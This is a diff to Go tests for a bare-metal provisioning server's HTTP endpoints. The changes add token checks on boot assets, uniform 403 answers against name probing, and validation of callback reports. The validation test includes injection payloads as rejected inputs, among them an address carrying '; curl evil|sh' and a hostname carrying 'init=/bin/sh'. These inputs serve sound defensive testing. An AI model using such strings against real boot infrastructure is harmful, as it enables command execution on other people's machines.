@@ -147,8 +147,8 @@ func TestHTTPProvisioningMachineGetsInstaller(t *testing.T) {
 	code, body := f.get(t, "/boot/52:54:00:00:00:01", nil)
 	want := "#!ipxe\necho baremetal: booting installer p1 for m1\n" +
 		"iseq ${platform} efi && set bm-initrds initrd=initrd0 || clear bm-initrds\n" +
-		"kernel http://10.0.2.2:8081/machines/m1/assets/vmlinuz console=ttyS0 site=rack7 baremetal.url=http://10.0.2.2:8081 baremetal.machine=m1 baremetal.token=tok-1 ${bm-initrds}\n" +
-		"initrd --name initrd0 http://10.0.2.2:8081/machines/m1/assets/initrd.img\nboot\n"
+		"kernel http://10.0.2.2:8081/machines/m1/assets/vmlinuz?token=tok-1 console=ttyS0 site=rack7 baremetal.url=http://10.0.2.2:8081 baremetal.machine=m1 baremetal.token=tok-1 ${bm-initrds}\n" +
+		"initrd --name initrd0 http://10.0.2.2:8081/machines/m1/assets/initrd.img?token=tok-1\nboot\n"
 	if code != 200 || body != want {
 		t.Fatalf("%d\n%s\nwant\n%s", code, body, want)
 	}
@@ -167,12 +167,9 @@ func TestHTTPRenderFailureServesInertScript(t *testing.T) {
 	f.machine(t, "m1", "52:54:00:00:00:01", &model.Run{ID: "r1", Token: "tok-1", Profile: "p1"}, nil)
 	code, body := f.get(t, "/boot/52:54:00:00:00:01", nil)
 	lines := strings.Split(strings.TrimSpace(body), "\n")
-	if code != 200 || len(lines) != 3 || lines[0] != "#!ipxe" || !strings.HasPrefix(lines[1], "echo baremetal: cannot render") || lines[2] != "exit" {
-		t.Fatalf("%d\n%s", code, body)
-	}
-	if !strings.Contains(lines[1], "rootdev") {
-		t.Fatalf("console message does not name the missing key: %q", lines[1])
-	}
+	// Anyone may ask for a MAC's script: the details go to the events only.
+	require.Equal(t, 200, code)
+	require.Equal(t, []string{"#!ipxe", "echo baremetal: render failed; see the machine's events", "exit"}, lines)
 	sigs := f.lc.recorded()
 	last := sigs[len(sigs)-1]
 	if last.Signal != model.SignalRenderFailed || last.Machine != "m1" || !strings.Contains(last.Data["error"], "rootdev") {
@@ -192,11 +189,13 @@ func TestHTTPClusterMemberUsesRoleProfile(t *testing.T) {
 		Members: []model.ClusterMember{{Machine: "cp1", Role: "control-plane"}, {Machine: "w1", Role: "worker"}}})
 	must(t, err)
 	mustCreateMachine(t, f.st, &model.Machine{Name: "cp1", MACs: []string{"52:54:00:00:00:0a"}, State: model.StateProvisioned,
-		Cluster: "c1", Role: "control-plane", Status: model.Status{Addresses: []string{"10.0.2.15"}}})
+		// A store from before callbacks were validated may hold anything:
+		// templates see the IP addresses only.
+		Cluster: "c1", Role: "control-plane", Status: model.Status{Addresses: []string{"10.66.6.6;reboot", "cp.evil", "10.0.2.15"}}})
 	mustCreateMachine(t, f.st, &model.Machine{Name: "w1", MACs: []string{"52:54:00:00:00:0b"}, BootProfile: "p1", State: model.StateProvisioned,
 		Cluster: "c1", Role: "worker", Run: &model.Run{ID: "r", Token: "tw"}})
 	_, body := f.get(t, "/boot/52:54:00:00:00:0b", nil)
-	if !strings.Contains(body, "kernel http://10.0.2.2:8081/machines/w1/assets/vmlinuz cp=10.0.2.15 baremetal.url=") {
+	if !strings.Contains(body, "kernel http://10.0.2.2:8081/machines/w1/assets/vmlinuz?token=tw cp=10.0.2.15 baremetal.url=") {
 		t.Fatalf("worker script:\n%s", body)
 	}
 }
@@ -221,7 +220,8 @@ func TestHTTPTemplates(t *testing.T) {
 		{"/machines/m1/templates/user-data", 403},
 		{"/machines/m2/templates/user-data?token=", 403}, // no run
 		{"/machines/m1/templates/nope?token=tok-1", 404},
-		{"/machines/ghost/templates/user-data?token=tok-1", 404},
+		{"/machines/ghost/templates/user-data?token=tok-1", 403}, // alike, so names cannot be probed
+		{"/machines/ghost/templates/user-data", 403},
 		{"/machines/m1/templates/broken?token=tok-1", 500},
 	} {
 		if code, body := f.get(t, tc.path, nil); code != tc.code || strings.Contains(body, "tok-1") {
@@ -243,6 +243,35 @@ func TestHTTPTemplates(t *testing.T) {
 	if fetched != 2 || failed != 1 {
 		t.Fatalf("templates_fetched=%d render_failed=%d, want 2 and 1", fetched, failed)
 	}
+	code, body = f.get(t, "/machines/m1/templates/broken?token=tok-1", nil)
+	require.Equal(t, "render failed; see the machine's events\n", body, "a render error's details reach the client (%d)", code)
+}
+
+// TestHTTPSpentTokenRefused: once a run's token is used (callback), or its
+// run failed, was aborted or replaced (each marks it used), templates and
+// per-machine assets refuse it like any wrong token.
+func TestHTTPSpentTokenRefused(t *testing.T) {
+	f := newHTTPFixture(t, nil)
+	f.machine(t, "m1", "52:54:00:00:00:01", &model.Run{ID: "r1", Token: "tok-1", Profile: "p1"}, nil)
+	paths := []string{"/machines/m1/templates/user-data?token=tok-1", "/machines/m1/assets/vmlinuz?token=tok-1"}
+	for _, p := range paths {
+		code, _ := f.get(t, p, nil)
+		require.Equal(t, 200, code, p)
+	}
+	require.Equal(t, 204, f.post(t, "/machines/m1/callback?token=tok-1", `{"status":"ok"}`, nil))
+	for _, p := range paths {
+		code, body := f.get(t, p, nil)
+		require.Equal(t, 403, code, "%s after the callback: %q", p, body)
+	}
+	_, err := f.st.UpdateMachine(context.Background(), "m1", func(m *model.Machine) (bool, error) {
+		m.Run = &model.Run{ID: "r2", Token: "tok-2", Profile: "p1"}
+		return false, nil
+	})
+	must(t, err)
+	code, _ := f.get(t, "/machines/m1/templates/user-data?token=tok-1", nil)
+	require.Equal(t, 403, code, "the previous run's token in a new run")
+	code, _ = f.get(t, "/machines/m1/templates/user-data?token=tok-2", nil)
+	require.Equal(t, 200, code, "the new run's token")
 }
 
 func TestHTTPCallback(t *testing.T) {
@@ -295,13 +324,13 @@ func TestHTTPAssets(t *testing.T) {
 		t.Fatalf("HEAD: %d len %d ranges %q", resp.StatusCode, resp.ContentLength, resp.Header.Get("Accept-Ranges"))
 	}
 	for i := 0; i < 2; i++ {
-		code, body = f.get(t, "/machines/m1/assets/vmlinuz", nil)
+		code, body = f.get(t, "/machines/m1/assets/vmlinuz?token=tok-1", nil)
 		if code != 200 || body != string(f.kernel) {
 			t.Fatalf("machine asset: %d (%d bytes)", code, len(body))
 		}
 	}
 	for range 2 {
-		f.get(t, "/machines/m1/assets/initrd.img", map[string]string{"Range": "bytes=0-1"})
+		f.get(t, "/machines/m1/assets/initrd.img?token=tok-1", map[string]string{"Range": "bytes=0-1"})
 	}
 	// One step per asset of the run's profile, however often it is fetched.
 	require.Equal(t, []model.Signal{model.SignalKernelFetched, model.SignalInitrdFetched}, f.lc.sequence("m1"))
@@ -312,4 +341,39 @@ func TestHTTPAssets(t *testing.T) {
 			t.Errorf("%s: %d %q", p, code, body)
 		}
 	}
+	// Without the run's token, a known machine, an unknown one, a file that
+	// exists and one that does not all get the same answer.
+	for _, p := range []string{"/machines/m1/assets/vmlinuz", "/machines/m1/assets/nope", "/machines/ghost/assets/vmlinuz",
+		"/machines/ghost/assets/nope", "/machines/m1/assets/vmlinuz?token=tok-2", "/machines/ghost/assets/vmlinuz?token=tok-1"} {
+		code, body := f.get(t, p, nil)
+		require.Equal(t, 403, code, p)
+		require.Equal(t, "forbidden\n", body, p)
+	}
+}
+
+// TestHTTPCallbackReportValidated: a report whose addresses are not IP
+// addresses, or whose hostname is not a host name, is refused whole (400)
+// before the token is spent, so nothing of it reaches templates.
+func TestHTTPCallbackReportValidated(t *testing.T) {
+	f := newHTTPFixture(t, nil)
+	f.machine(t, "m1", "52:54:00:00:00:01", &model.Run{ID: "r1", Token: "tok-1", Profile: "p1"}, nil)
+	for _, body := range []string{
+		`{"addresses":["10.66.6.6; curl evil|sh"]}`,
+		`{"addresses":["evil.example"]}`,
+		`{"addresses":["10.0.2.15","{{ .Params }}"]}`,
+		`{"addresses":["fe80::1%eth0"]}`,
+		`{"hostname":"m1 init=/bin/sh"}`,
+		`{"hostname":"-m1"}`,
+		`{"hostname":"` + strings.Repeat("a", 64) + `"}`,
+		`{"addresses":[` + strings.Repeat(`"10.0.0.1",`, model.MaxReportAddresses) + `"10.0.0.2"]}`,
+	} {
+		require.Equal(t, 400, f.post(t, "/machines/m1/callback?token=tok-1", body, nil), body)
+	}
+	f.lc.mu.Lock()
+	require.Empty(t, f.lc.tokens, "a refused report reached the lifecycle")
+	f.lc.mu.Unlock()
+	require.Equal(t, 204, f.post(t, "/machines/m1/callback?token=tok-1", `{"addresses":["10.0.2.15/24","fd00::5"],"hostname":"m1.lab.example"}`, nil))
+	f.lc.mu.Lock()
+	defer f.lc.mu.Unlock()
+	require.Equal(t, "127.0.0.1", f.lc.callbacks[0].From)
 }
